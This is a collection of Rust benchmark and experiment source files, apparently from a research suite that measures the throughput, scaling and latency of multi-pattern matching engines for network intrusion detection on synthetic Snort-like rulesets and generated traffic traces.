    let set = SyntheticRuleset::snort_like_s1().http();
    let trace =
        TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay2, TRACE_LEN), Some(&set));
    (set, trace)
}

fn bench_filtering(c: &mut Criterion) {
    let (set, trace) = workload();
    let mut group = c.benchmark_group("filter_round");
    group.throughput(Throughput::Bytes(trace.len() as u64));

    let spatch = SPatch::build(&set);
    group.bench_function(BenchmarkId::new("spatch", "scalar"), |b| {
        let mut scratch = Scratch::with_capacity_for(trace.len());
        b.iter(|| {
            scratch.clear();
            spatch.filter_round(&trace, &mut scratch);
            scratch.candidates()
        })
    });

    let vp_scalar = VPatch::<ScalarBackend, 8>::build(&set);
    group.bench_function(BenchmarkId::new("vpatch", "scalar8"), |b| {
        let mut scratch = Scratch::with_capacity_for(trace.len());
        b.iter(|| vp_scalar.filter_only(&trace, FilterOnlyMode::WithStores, &mut scratch))
    });

    if <Avx2Backend as VectorBackend<8>>::is_available() {
        let vp = VPatch::<Avx2Backend, 8>::build(&set);
        group.bench_function(BenchmarkId::new("vpatch", "avx2"), |b| {
            let mut scratch = Scratch::with_capacity_for(trace.len());
            b.iter(|| vp.filter_only(&trace, FilterOnlyMode::WithStores, &mut scratch))
        });
    }
    if <Avx512Backend as VectorBackend<16>>::is_available() {
        let vp = VPatch::<Avx512Backend, 16>::build(&set);
        group.bench_function(BenchmarkId::new("vpatch", "avx512"), |b| {
            let mut scratch = Scratch::with_capacity_for(trace.len());
            b.iter(|| vp.filter_only(&trace, FilterOnlyMode::WithStores, &mut scratch))
        });
    }
    group.finish();
}

criterion_group!(benches, bench_filtering);
criterion_main!(benches);
