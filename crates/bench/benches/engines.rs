//! Criterion micro-benchmark of end-to-end engine throughput (the kernel
//! view of Figure 4) on a 1 MiB ISCX-like sample.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use mpm_bench::engines::{build_engine, EngineKind, Platform};
use mpm_patterns::synthetic::{RulesetSpec, SyntheticRuleset};
use mpm_traffic::{TraceGenerator, TraceKind, TraceSpec};

const TRACE_LEN: usize = 1 << 20;

fn bench_engines(c: &mut Criterion) {
    // A reduced ruleset keeps the Aho-Corasick DFA build time reasonable
    // inside Criterion's many iterations; the fig4 binary uses the full sets.
    let ruleset = SyntheticRuleset::generate(RulesetSpec {
        total_patterns: 1_000,
        ..RulesetSpec::snort_s1()
    });
    let set = ruleset.http();
    let trace =
        TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay2, TRACE_LEN), Some(&set));

    let mut group = c.benchmark_group("engines");
    group.throughput(Throughput::Bytes(trace.len() as u64));
    group.sample_size(20);
    for kind in EngineKind::ALL {
        let engine = build_engine(kind, &set, Platform::Haswell);
        group.bench_function(BenchmarkId::new("count", kind.label()), |b| {
            b.iter(|| engine.count(&trace))
        });
    }
    group.finish();
}

criterion_group!(benches, bench_engines);
criterion_main!(benches);
