//! Text-table and JSON rendering of the experiment results.

use crate::experiments::{
    CacheFigure, FilteringFigure, InstrumentationFigure, MatchDensityFigure, ScalingFigure,
    ThroughputFigure,
};
use serde::Serialize;

/// Serialises any result structure to pretty JSON (used with `--json`).
pub fn to_json<T: Serialize>(value: &T) -> String {
    serde_json::to_string_pretty(value).expect("results are always serialisable")
}

/// Renders Figure 4 / Figure 7 as a text table.
pub fn render_throughput(figure: &ThroughputFigure) -> String {
    let mut out = String::new();
    out.push_str(&format!(
        "# Figure {}: {} — {} ({} patterns)\n",
        figure.figure, figure.ruleset, figure.platform, figure.pattern_count
    ));
    out.push_str(&format!(
        "{:<12} {:<14} {:>12} {:>10} {:>14} {:>12}\n",
        "trace", "engine", "Gbps(mean)", "±std", "speedup/DFC", "matches"
    ));
    for row in &figure.rows {
        out.push_str(&format!(
            "{:<12} {:<14} {:>12.3} {:>10.3} {:>14.2} {:>12}\n",
            row.trace,
            row.engine,
            row.measurement.gbps_mean,
            row.measurement.gbps_std,
            row.speedup_vs_dfc,
            row.measurement.matches
        ));
    }
    out
}

/// Renders Figure 5a.
pub fn render_scaling(figure: &ScalingFigure) -> String {
    let mut out = String::new();
    out.push_str(&format!(
        "# Figure 5a: throughput vs number of patterns — {}\n",
        figure.platform
    ));
    out.push_str(&format!(
        "{:>10} {:>16} {:>16} {:>10}\n",
        "patterns", "S-PATCH (Gbps)", "V-PATCH (Gbps)", "speedup"
    ));
    for p in &figure.points {
        out.push_str(&format!(
            "{:>10} {:>16.3} {:>16.3} {:>10.2}\n",
            p.patterns, p.spatch.gbps_mean, p.vpatch.gbps_mean, p.speedup
        ));
    }
    out
}

/// Renders Figure 5b.
pub fn render_instrumentation(figure: &InstrumentationFigure) -> String {
    let mut out = String::new();
    out.push_str(&format!(
        "# Figure 5b: filtering share and vector-lane occupancy ({} lanes)\n",
        figure.lanes
    ));
    out.push_str(&format!(
        "{:>10} {:>20} {:>20} {:>16}\n",
        "patterns", "filtering time (%)", "useful lanes (%)", "candidate rate"
    ));
    for p in &figure.points {
        out.push_str(&format!(
            "{:>10} {:>20.1} {:>20.1} {:>16.4}\n",
            p.patterns, p.filtering_time_pct, p.useful_lanes_pct, p.candidate_rate
        ));
    }
    out
}

/// Renders Figure 5c.
pub fn render_match_density(figure: &MatchDensityFigure) -> String {
    let mut out = String::new();
    out.push_str(&format!(
        "# Figure 5c: speedup vs fraction of matching input ({} patterns)\n",
        figure.patterns
    ));
    out.push_str(&format!(
        "{:>10} {:>16} {:>16} {:>10}\n",
        "fraction", "S-PATCH (Gbps)", "V-PATCH (Gbps)", "speedup"
    ));
    for p in &figure.points {
        out.push_str(&format!(
            "{:>9.0}% {:>16.3} {:>16.3} {:>10.2}\n",
            p.fraction * 100.0,
            p.spatch.gbps_mean,
            p.vpatch.gbps_mean,
            p.speedup
        ));
    }
    out
}

/// Renders Figure 6.
pub fn render_filtering(figure: &FilteringFigure) -> String {
    let mut out = String::new();
    out.push_str(&format!(
        "# Figure {}: filtering-phase throughput — {}\n",
        figure.figure, figure.ruleset
    ));
    out.push_str(&format!(
        "{:<12} {:<26} {:>12} {:>10} {:>16}\n",
        "trace", "configuration", "Gbps(mean)", "±std", "speedup/S-PATCH"
    ));
    for row in &figure.rows {
        out.push_str(&format!(
            "{:<12} {:<26} {:>12.3} {:>10.3} {:>16.2}\n",
            row.trace,
            row.config,
            row.measurement.gbps_mean,
            row.measurement.gbps_std,
            row.speedup_vs_spatch
        ));
    }
    out
}

/// Renders the cache ablation.
pub fn render_cache(figure: &CacheFigure) -> String {
    let mut out = String::new();
    out.push_str("# Cache-locality ablation (simulated hierarchies)\n");
    out.push_str(&format!(
        "{:<18} {:<10} {:>12} {:>12} {:>12} {:>14}\n",
        "engine", "config", "accesses", "L1 misses", "mem accesses", "L1 miss ratio"
    ));
    for row in &figure.rows {
        out.push_str(&format!(
            "{:<18} {:<10} {:>12} {:>12} {:>12} {:>14.4}\n",
            row.engine,
            row.config,
            row.accesses,
            row.l1_misses,
            row.memory_accesses,
            row.l1_miss_ratio
        ));
    }
    out.push_str(&format!(
        "AC / DFC per-access L1-miss-ratio on the Haswell hierarchy: {:.2}x (paper: up to 3.8x fewer misses for DFC)\n",
        figure.ac_over_dfc_l1_misses
    ));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::experiments::*;
    use crate::measure::Measurement;

    fn measurement(gbps: f64) -> Measurement {
        Measurement {
            gbps_mean: gbps,
            gbps_std: 0.1,
            matches: 42,
            runs: 3,
        }
    }

    #[test]
    fn throughput_table_contains_every_row() {
        let fig = ThroughputFigure {
            figure: "4a".into(),
            ruleset: "test".into(),
            platform: "haswell-width (8 lanes, avx2)".into(),
            pattern_count: 10,
            rows: vec![ThroughputRow {
                trace: "ISCX day2".into(),
                engine: "V-PATCH".into(),
                measurement: measurement(3.2),
                speedup_vs_dfc: 1.8,
            }],
        };
        let text = render_throughput(&fig);
        assert!(text.contains("Figure 4a"));
        assert!(text.contains("V-PATCH"));
        assert!(text.contains("1.80"));
        let json = to_json(&fig);
        assert!(json.contains("\"speedup_vs_dfc\": 1.8"));
    }

    #[test]
    fn other_renderers_do_not_panic_and_mention_units() {
        let scaling = ScalingFigure {
            platform: "p".into(),
            points: vec![ScalingPoint {
                patterns: 1000,
                spatch: measurement(2.0),
                vpatch: measurement(3.0),
                speedup: 1.5,
            }],
        };
        assert!(render_scaling(&scaling).contains("Gbps"));

        let instr = InstrumentationFigure {
            lanes: 8,
            points: vec![InstrumentationPoint {
                patterns: 1000,
                filtering_time_pct: 70.0,
                useful_lanes_pct: 30.0,
                candidate_rate: 0.01,
            }],
        };
        assert!(render_instrumentation(&instr).contains("useful lanes"));

        let density = MatchDensityFigure {
            patterns: 2000,
            points: vec![MatchDensityPoint {
                fraction: 0.4,
                spatch: measurement(2.0),
                vpatch: measurement(2.6),
                speedup: 1.3,
            }],
        };
        assert!(render_match_density(&density).contains("40%"));

        let filtering = FilteringFigure {
            figure: "6a".into(),
            ruleset: "r".into(),
            rows: vec![FilteringRow {
                trace: "ISCX day2".into(),
                config: "V-PATCH-filtering".into(),
                measurement: measurement(4.0),
                speedup_vs_spatch: 2.1,
            }],
        };
        assert!(render_filtering(&filtering).contains("S-PATCH"));

        let cache = CacheFigure {
            rows: vec![CacheRow {
                engine: "DFC".into(),
                config: "haswell".into(),
                accesses: 100,
                l1_misses: 10,
                memory_accesses: 1,
                l1_miss_ratio: 0.1,
            }],
            ac_over_dfc_l1_misses: 3.0,
        };
        assert!(render_cache(&cache).contains("3.00x"));
    }
}
