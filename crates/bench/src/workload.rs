//! Workload construction: rulesets and traces for the experiments.

use mpm_patterns::{PatternSet, SyntheticRuleset};
use mpm_traffic::{TraceGenerator, TraceKind, TraceSpec};

/// Which of the paper's rulesets to emulate.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum RulesetChoice {
    /// Snort-like S1: ~2,500 patterns, HTTP selection ≈ 2K.
    S1,
    /// ET-open-like S2: ~20,000 patterns, HTTP selection ≈ 9K.
    S2,
    /// The full 20K pattern set (Figure 6c and the Figure 5 sweeps).
    Full,
}

impl RulesetChoice {
    /// Label used in figure headers, mirroring the paper's captions.
    pub fn label(self) -> &'static str {
        match self {
            RulesetChoice::S1 => "Snort web traffic patterns (~2K)",
            RulesetChoice::S2 => "ET open web traffic patterns (~9K)",
            RulesetChoice::Full => "Full pattern set (~20K)",
        }
    }
}

/// A fully materialised workload: the pattern selection to match and the
/// traces to run it against.
#[derive(Clone, Debug)]
pub struct Workload {
    /// The pattern set handed to the engines.
    pub patterns: PatternSet,
    /// The full generated ruleset (for subset sweeps).
    pub full_ruleset: PatternSet,
    /// `(trace kind, payload bytes)` pairs, in the paper's presentation
    /// order.
    pub traces: Vec<(TraceKind, Vec<u8>)>,
}

impl Workload {
    /// Builds the workload for one ruleset choice.
    ///
    /// `trace_mib` controls the size of every generated trace. The paper uses
    /// 1 GB (ISCX) / 300 MB (DARPA) captures; the default harness sizes are
    /// far smaller because throughput is size-normalised.
    pub fn build(choice: RulesetChoice, trace_mib: usize) -> Self {
        Self::build_with_traces(choice, trace_mib, &TraceKind::ALL)
    }

    /// Builds the workload restricted to the given traces (the Figure 6
    /// experiments only use the three realistic traces).
    pub fn build_with_traces(choice: RulesetChoice, trace_mib: usize, kinds: &[TraceKind]) -> Self {
        let ruleset = match choice {
            RulesetChoice::S1 => SyntheticRuleset::snort_like_s1(),
            RulesetChoice::S2 | RulesetChoice::Full => SyntheticRuleset::et_open_like_s2(),
        };
        let patterns = match choice {
            RulesetChoice::S1 | RulesetChoice::S2 => ruleset.http(),
            RulesetChoice::Full => ruleset.full().clone(),
        };
        let len = trace_mib * 1024 * 1024;
        let traces = kinds
            .iter()
            .map(|&kind| {
                let spec = TraceSpec::new(kind, len);
                (kind, TraceGenerator::generate(&spec, Some(&patterns)))
            })
            .collect();
        Workload {
            patterns,
            full_ruleset: ruleset.full().clone(),
            traces,
        }
    }

    /// A deterministic subset of the *full* ruleset with `n` patterns, used
    /// by the pattern-count sweeps (Figure 5a/5b).
    pub fn pattern_subset(&self, n: usize) -> PatternSet {
        self.full_ruleset.random_subset(n, 0x5eed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn s1_workload_has_about_2k_http_patterns() {
        let w = Workload::build(RulesetChoice::S1, 1);
        assert!(
            (1_800..=2_300).contains(&w.patterns.len()),
            "{}",
            w.patterns.len()
        );
        assert_eq!(w.traces.len(), 4);
        for (_, t) in &w.traces {
            assert_eq!(t.len(), 1024 * 1024);
        }
    }

    #[test]
    fn full_workload_uses_all_20k_patterns() {
        let w = Workload::build_with_traces(RulesetChoice::Full, 1, &[TraceKind::IscxDay2]);
        assert_eq!(w.patterns.len(), 20_000);
        assert_eq!(w.traces.len(), 1);
    }

    #[test]
    fn pattern_subsets_are_nested_and_deterministic() {
        let w = Workload::build_with_traces(RulesetChoice::S1, 1, &[TraceKind::Random]);
        let a = w.pattern_subset(100);
        let b = w.pattern_subset(100);
        assert_eq!(a, b);
        assert_eq!(a.len(), 100);
        assert_eq!(w.pattern_subset(1_000).len(), 1_000);
    }

    #[test]
    fn labels_cover_all_choices() {
        assert!(RulesetChoice::S1.label().contains("2K"));
        assert!(RulesetChoice::S2.label().contains("9K"));
        assert!(RulesetChoice::Full.label().contains("20K"));
    }
}
