//! Workload construction: rulesets and traces for the experiments.

use mpm_patterns::{Pattern, PatternSet, SyntheticRuleset};
use mpm_traffic::{TraceGenerator, TraceKind, TraceSpec};
use std::collections::HashMap;

/// Which of the paper's rulesets to emulate.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum RulesetChoice {
    /// Snort-like S1: ~2,500 patterns, HTTP selection ≈ 2K.
    S1,
    /// ET-open-like S2: ~20,000 patterns, HTTP selection ≈ 9K.
    S2,
    /// The full 20K pattern set (Figure 6c and the Figure 5 sweeps).
    Full,
}

impl RulesetChoice {
    /// Label used in figure headers, mirroring the paper's captions.
    pub fn label(self) -> &'static str {
        match self {
            RulesetChoice::S1 => "Snort web traffic patterns (~2K)",
            RulesetChoice::S2 => "ET open web traffic patterns (~9K)",
            RulesetChoice::Full => "Full pattern set (~20K)",
        }
    }
}

/// A fully materialised workload: the pattern selection to match and the
/// traces to run it against.
#[derive(Clone, Debug)]
pub struct Workload {
    /// The pattern set handed to the engines.
    pub patterns: PatternSet,
    /// The full generated ruleset (for subset sweeps).
    pub full_ruleset: PatternSet,
    /// `(trace kind, payload bytes)` pairs, in the paper's presentation
    /// order.
    pub traces: Vec<(TraceKind, Vec<u8>)>,
}

impl Workload {
    /// Builds the workload for one ruleset choice.
    ///
    /// `trace_mib` controls the size of every generated trace. The paper uses
    /// 1 GB (ISCX) / 300 MB (DARPA) captures; the default harness sizes are
    /// far smaller because throughput is size-normalised.
    pub fn build(choice: RulesetChoice, trace_mib: usize) -> Self {
        Self::build_with_traces(choice, trace_mib, &TraceKind::ALL)
    }

    /// Builds the workload restricted to the given traces (the Figure 6
    /// experiments only use the three realistic traces).
    pub fn build_with_traces(choice: RulesetChoice, trace_mib: usize, kinds: &[TraceKind]) -> Self {
        let ruleset = match choice {
            RulesetChoice::S1 => SyntheticRuleset::snort_like_s1(),
            RulesetChoice::S2 | RulesetChoice::Full => SyntheticRuleset::et_open_like_s2(),
        };
        let patterns = match choice {
            RulesetChoice::S1 | RulesetChoice::S2 => ruleset.http(),
            RulesetChoice::Full => ruleset.full().clone(),
        };
        let len = trace_mib * 1024 * 1024;
        let traces = kinds
            .iter()
            .map(|&kind| {
                let spec = TraceSpec::new(kind, len);
                (kind, TraceGenerator::generate(&spec, Some(&patterns)))
            })
            .collect();
        Workload {
            patterns,
            full_ruleset: ruleset.full().clone(),
            traces,
        }
    }

    /// A deterministic subset of the *full* ruleset with `n` patterns, used
    /// by the pattern-count sweeps (Figure 5a/5b).
    pub fn pattern_subset(&self, n: usize) -> PatternSet {
        self.full_ruleset.random_subset(n, 0x5eed)
    }

    /// A **mixed-case** variant of this workload for the `nocase`
    /// benchmarks: a deterministic ~1/3 of the patterns are marked
    /// case-insensitive (forcing every engine onto the folded filter path)
    /// and ~1/4 of the alphabetic trace bytes get their ASCII case toggled,
    /// so case-varied occurrences of the `nocase` rules actually appear in
    /// the traffic. Real Snort rulesets mark a comparable share of contents
    /// `nocase;`, so this is the realistic shape of the folded path's cost.
    pub fn mixed_case_variant(&self, seed: u64) -> Workload {
        let mut state = seed ^ 0x6e6f_6361_7365; // "nocase"
        let mut next = move || {
            state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
            let mut z = state;
            z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
            z ^ (z >> 31)
        };
        let mark = |set: &PatternSet, next: &mut dyn FnMut() -> u64| -> PatternSet {
            set.patterns()
                .iter()
                .map(|p| p.clone().with_nocase(next().is_multiple_of(3)))
                .collect()
        };
        let patterns = mark(&self.patterns, &mut next);
        let full_ruleset = mark(&self.full_ruleset, &mut next);
        let traces = self
            .traces
            .iter()
            .map(|(kind, trace)| {
                let mut mutated = trace.clone();
                for b in mutated.iter_mut() {
                    if b.is_ascii_alphabetic() && next().is_multiple_of(4) {
                        *b ^= 0x20;
                    }
                }
                (*kind, mutated)
            })
            .collect();
        Workload {
            patterns,
            full_ruleset,
            traces,
        }
    }
    /// A **verify-heavy adversarial** variant of this workload: the traces
    /// are unchanged, but the pattern set is replaced with patterns built
    /// from the *hottest 4-grams actually present in the trace*, each
    /// extended with a pseudo-random tail that (almost) never occurs. Every
    /// occurrence of a hot 4-gram passes filters 2+3 exactly (the filter
    /// bits were set by that very 4-gram) but fails verification at the
    /// tail, so candidate density is one to two orders of magnitude above
    /// the realistic s1-http workload while the match count stays tiny — the
    /// regime where the scan rate is governed by the verification stage's
    /// dependent hash-table loads, not by filtering. A second, smaller group
    /// of 3-byte patterns seeded from the hottest first bytes does the same
    /// to the short-pattern table (whose buckets are indexed by one byte, so
    /// the shared-prefix patterns pile into shared buckets and each short
    /// candidate pays multiple comparisons).
    ///
    /// This is the workload the `post_pr5` snapshot and the `verify_round`
    /// Criterion bench measure the batched verification path on.
    pub fn verify_heavy_variant(&self, seed: u64) -> Workload {
        const HOT_GRAMS: usize = 6000;
        const LONG_PATTERNS: usize = 24000;
        const SHORT_PATTERNS: usize = 48;
        let trace = &self.traces[0].1;

        // Rank the trace's 4-grams by occurrence count.
        let mut counts: HashMap<[u8; 4], u32> = HashMap::new();
        for w in trace.windows(4) {
            *counts.entry([w[0], w[1], w[2], w[3]]).or_insert(0) += 1;
        }
        let mut ranked: Vec<([u8; 4], u32)> = counts.into_iter().collect();
        ranked.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        ranked.truncate(HOT_GRAMS);

        let mut state = seed ^ 0x7665_7269_6679; // "verify"
        let mut next = move || {
            state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
            let mut z = state;
            z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
            z ^ (z >> 31)
        };

        let mut patterns: Vec<Pattern> = Vec::with_capacity(LONG_PATTERNS + SHORT_PATTERNS);
        for i in 0..LONG_PATTERNS {
            let (gram, _) = ranked[i % ranked.len()];
            let tail_len = 4 + (next() % 9) as usize;
            let mut bytes = gram.to_vec();
            for _ in 0..tail_len {
                bytes.push((next() % 256) as u8);
            }
            patterns.push(Pattern::literal(bytes));
        }
        // Short adversaries: hot first byte + hot second byte + a byte that
        // rarely follows, so filter 1 fires constantly and the one-byte-
        // indexed short buckets hold many same-prefix entries.
        let mut hot2: Vec<([u8; 2], u32)> = {
            let mut c: HashMap<[u8; 2], u32> = HashMap::new();
            for w in trace.windows(2) {
                *c.entry([w[0], w[1]]).or_insert(0) += 1;
            }
            c.into_iter().collect()
        };
        hot2.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        for i in 0..SHORT_PATTERNS {
            let (gram, _) = hot2[i % hot2.len().min(SHORT_PATTERNS)];
            patterns.push(Pattern::literal(vec![
                gram[0],
                gram[1],
                (next() % 256) as u8,
            ]));
        }
        let patterns = PatternSet::new(patterns);
        Workload {
            full_ruleset: patterns.clone(),
            patterns,
            traces: self.traces.clone(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn s1_workload_has_about_2k_http_patterns() {
        let w = Workload::build(RulesetChoice::S1, 1);
        assert!(
            (1_800..=2_300).contains(&w.patterns.len()),
            "{}",
            w.patterns.len()
        );
        assert_eq!(w.traces.len(), 4);
        for (_, t) in &w.traces {
            assert_eq!(t.len(), 1024 * 1024);
        }
    }

    #[test]
    fn full_workload_uses_all_20k_patterns() {
        let w = Workload::build_with_traces(RulesetChoice::Full, 1, &[TraceKind::IscxDay2]);
        assert_eq!(w.patterns.len(), 20_000);
        assert_eq!(w.traces.len(), 1);
    }

    #[test]
    fn pattern_subsets_are_nested_and_deterministic() {
        let w = Workload::build_with_traces(RulesetChoice::S1, 1, &[TraceKind::Random]);
        let a = w.pattern_subset(100);
        let b = w.pattern_subset(100);
        assert_eq!(a, b);
        assert_eq!(a.len(), 100);
        assert_eq!(w.pattern_subset(1_000).len(), 1_000);
    }

    #[test]
    fn mixed_case_variant_marks_patterns_and_mutates_traces() {
        let w = Workload::build_with_traces(RulesetChoice::S1, 1, &[TraceKind::IscxDay2]);
        let mixed = w.mixed_case_variant(7);
        assert!(mixed.patterns.has_nocase());
        let nocase = mixed
            .patterns
            .patterns()
            .iter()
            .filter(|p| p.is_nocase())
            .count();
        let frac = nocase as f64 / mixed.patterns.len() as f64;
        assert!((0.25..0.45).contains(&frac), "nocase fraction {frac}");
        // Same bytes modulo case; a meaningful share actually toggled.
        let (orig, mutated) = (&w.traces[0].1, &mixed.traces[0].1);
        assert_eq!(orig.len(), mutated.len());
        let toggled = orig
            .iter()
            .zip(mutated.iter())
            .filter(|(a, b)| a != b)
            .count();
        assert!(toggled > orig.len() / 50, "only {toggled} bytes toggled");
        assert!(orig
            .iter()
            .zip(mutated.iter())
            .all(|(a, b)| a.eq_ignore_ascii_case(b)));
        // Deterministic.
        assert_eq!(mixed.traces[0].1, w.mixed_case_variant(7).traces[0].1);
    }

    #[test]
    fn verify_heavy_variant_is_candidate_dense_and_deterministic() {
        use mpm_patterns::Matcher;
        let w = Workload::build_with_traces(RulesetChoice::S1, 1, &[TraceKind::IscxDay2]);
        let heavy = w.verify_heavy_variant(7);
        // Deterministic.
        assert_eq!(
            heavy.patterns.patterns(),
            w.verify_heavy_variant(7).patterns.patterns()
        );
        // The traces are untouched; only the pattern set is adversarial.
        assert_eq!(heavy.traces[0].1, w.traces[0].1);
        // Candidate density (the verification load) is at least an order of
        // magnitude above the realistic ruleset on the same trace, while the
        // hot-prefix-plus-random-tail construction keeps confirmed matches
        // rare relative to candidates.
        let base = mpm_vpatch::SPatch::build(&w.patterns);
        let adv = mpm_vpatch::SPatch::build(&heavy.patterns);
        let base_stats = base.scan_with_stats(&w.traces[0].1);
        let adv_stats = adv.scan_with_stats(&heavy.traces[0].1);
        assert!(
            adv_stats.candidates >= 10 * base_stats.candidates.max(1),
            "adversarial candidates {} vs base {}",
            adv_stats.candidates,
            base_stats.candidates
        );
        assert!(
            adv_stats.matches < adv_stats.candidates / 10,
            "matches {} should stay rare vs candidates {}",
            adv_stats.matches,
            adv_stats.candidates
        );
    }

    #[test]
    fn labels_cover_all_choices() {
        assert!(RulesetChoice::S1.label().contains("2K"));
        assert!(RulesetChoice::S2.label().contains("9K"));
        assert!(RulesetChoice::Full.label().contains("20K"));
    }
}
