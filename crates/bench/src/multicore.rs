//! Multi-core scaling experiment: aggregate throughput versus worker count.
//!
//! The paper's evaluation is single-core; the suite's north star (a NIDS
//! serving heavy traffic) is not. This experiment packetizes the Figure-6
//! workload (S1-HTTP ruleset, ISCX-day2-like trace), stripes the packets
//! over a set of flows, and measures `ShardedScanner` aggregate Gbps at
//! increasing worker counts — the multi-core scaling axis the streaming
//! layer opens. Results are wired into the `bench_baseline` JSON snapshot so
//! the scaling trajectory is diffable PR-over-PR.
//!
//! Caveat: speedup is a property of the machine. On a single-hardware-thread
//! runner every worker count measures ≈ 1×; the row shape records
//! `available_parallelism` so a reader can tell "no scaling" from "nothing
//! to scale onto".
//!
//! Since PR 8 the figure also carries a **latency** subsection measured on
//! the continuously-running `PipelineScanner`: per-packet
//! p50/p99/p99.9/max latency (dispatch-to-scanned, histograms merged
//! across workers and runs), mean worker utilization, ring high-water
//! marks and backpressure engagement — the SLO trajectory next to the
//! throughput trajectory.

use mpm_patterns::stats::RunningStats;
use mpm_patterns::{LatencyHistogram, LatencySummary, PatternSet};
use mpm_stream::{BackpressurePolicy, Packet, ScannerBuilder, SharedMatcher};
use serde::Serialize;
use std::sync::Arc;
use std::time::Instant;

/// Packet payload size used when cutting a trace into a batch. 1460 bytes ≈
/// an Ethernet MSS, the realistic reassembly-chunk lower bound.
pub const DEFAULT_PACKET_LEN: usize = 1460;

/// Number of flows the packets are striped over (must exceed the largest
/// worker count measured, or the extra workers sit idle by construction).
pub const DEFAULT_FLOWS: u64 = 64;

/// One measured point of the scaling experiment.
#[derive(Clone, Debug, Serialize)]
pub struct MultiCoreRow {
    /// Worker threads the batch was fanned out over.
    pub workers: usize,
    /// Mean aggregate throughput in Gbit/s.
    pub gbps: f64,
    /// Sample standard deviation of the throughput.
    pub gbps_std: f64,
    /// Mean speedup over the first measured row (`worker_counts[0]`,
    /// conventionally 1 worker; always 1.0 for that row itself).
    pub speedup_vs_first: f64,
    /// Matches found per run (sanity: identical across worker counts).
    pub matches: u64,
}

/// One measured point of the pipeline-latency experiment.
#[derive(Clone, Debug, Serialize)]
pub struct LatencyRow {
    /// Worker threads packets were dispatched over.
    pub workers: usize,
    /// Mean aggregate throughput of the pipeline runs in Gbit/s.
    pub gbps: f64,
    /// Sample standard deviation of the throughput.
    pub gbps_std: f64,
    /// Per-packet dispatch-to-scanned latency percentiles, merged across
    /// workers and runs.
    pub latency: LatencySummary,
    /// Mean worker utilization (busy / wall) across workers and runs.
    pub utilization_mean: f64,
    /// Highest job-ring occupancy any worker saw in any run.
    pub max_ring_occupancy: usize,
    /// Job-ring capacity the pipeline ran with.
    pub ring_capacity: usize,
    /// Total dispatch stalls on a full ring across all runs (0 means the
    /// rings never filled — latency is scan-bound, not queue-bound).
    pub backpressure_waits: u64,
}

/// The scaling experiment result.
#[derive(Clone, Debug, Serialize)]
pub struct MultiCoreFigure {
    /// Engine the workers shared.
    pub engine: String,
    /// Hardware threads the OS reports (`std::thread::available_parallelism`);
    /// scaling beyond this is not expected.
    pub available_parallelism: usize,
    /// Packets per batch.
    pub packets: usize,
    /// Payload bytes per batch.
    pub bytes: usize,
    /// Flows the packets are striped over.
    pub flows: u64,
    /// One row per measured worker count.
    pub rows: Vec<MultiCoreRow>,
    /// Pipeline latency rows (empty unless the latency experiment ran;
    /// see [`run_latency`]).
    pub latency: Vec<LatencyRow>,
}

/// Cuts `trace` into `packet_len`-sized packets striped over `flows` flows.
pub fn packetize(trace: &[u8], packet_len: usize, flows: u64) -> Vec<Packet> {
    assert!(packet_len > 0, "packet_len must be positive");
    trace
        .chunks(packet_len)
        .enumerate()
        .map(|(i, chunk)| Packet::new(i as u64 % flows, chunk.to_vec()))
        .collect()
}

/// Measures aggregate sharded-scan throughput at each worker count.
///
/// Every run scans a fresh clone of the packet batch (payload hand-off to
/// the workers is part of what a production pipeline pays, so the channel
/// send is inside the timed region; the clone itself is prepared outside).
pub fn run_scaling(
    engine: SharedMatcher,
    rules: &PatternSet,
    trace: &[u8],
    worker_counts: &[usize],
    runs: usize,
) -> MultiCoreFigure {
    assert!(runs > 0, "need at least one run");
    let packets = packetize(trace, DEFAULT_PACKET_LEN, DEFAULT_FLOWS);
    let mut rows: Vec<MultiCoreRow> = Vec::new();
    for &workers in worker_counts {
        let barrier = || {
            ScannerBuilder::new()
                .engine(engine.clone(), rules)
                .workers(workers)
                .build_barrier()
                .expect("valid build")
        };
        let mut scanner = barrier();
        // Warm-up pass: first-touch of per-flow scanners and worker scratch.
        let warm = scanner.scan_batch(packets.clone());
        let mut matches = warm.matches.len() as u64;
        let mut stats = RunningStats::new();
        for _ in 0..runs {
            // Per-flow carry state persists across batches; reset it by
            // rebuilding the scanner so every run scans identical state.
            scanner = barrier();
            let batch = packets.clone();
            let start = Instant::now();
            let result = scanner.scan_batch(batch);
            let elapsed = start.elapsed().as_secs_f64();
            matches = result.matches.len() as u64;
            stats.push(crate::measure::gbps(trace.len(), elapsed));
        }
        let speedup = match rows.first() {
            Some(first) if first.gbps > 0.0 => stats.mean() / first.gbps,
            _ => 1.0,
        };
        rows.push(MultiCoreRow {
            workers,
            gbps: stats.mean(),
            gbps_std: stats.stddev(),
            speedup_vs_first: speedup,
            matches,
        });
    }
    MultiCoreFigure {
        engine: engine.name().to_string(),
        available_parallelism: std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(1),
        packets: packets.len(),
        bytes: trace.len(),
        flows: DEFAULT_FLOWS,
        rows,
        latency: Vec::new(),
    }
}

/// Measures the pipeline's per-packet latency distribution at each worker
/// count: every run dispatches a fresh clone of the packet batch into a
/// `PipelineScanner` and drains, so the figure includes queueing in the job
/// rings as well as scan time. Histograms are merged across workers (by
/// `drain`) and across runs (here) before summarizing.
pub fn run_latency(
    engine: SharedMatcher,
    rules: &PatternSet,
    trace: &[u8],
    worker_counts: &[usize],
    runs: usize,
) -> Vec<LatencyRow> {
    assert!(runs > 0, "need at least one run");
    let packets = packetize(trace, DEFAULT_PACKET_LEN, DEFAULT_FLOWS);
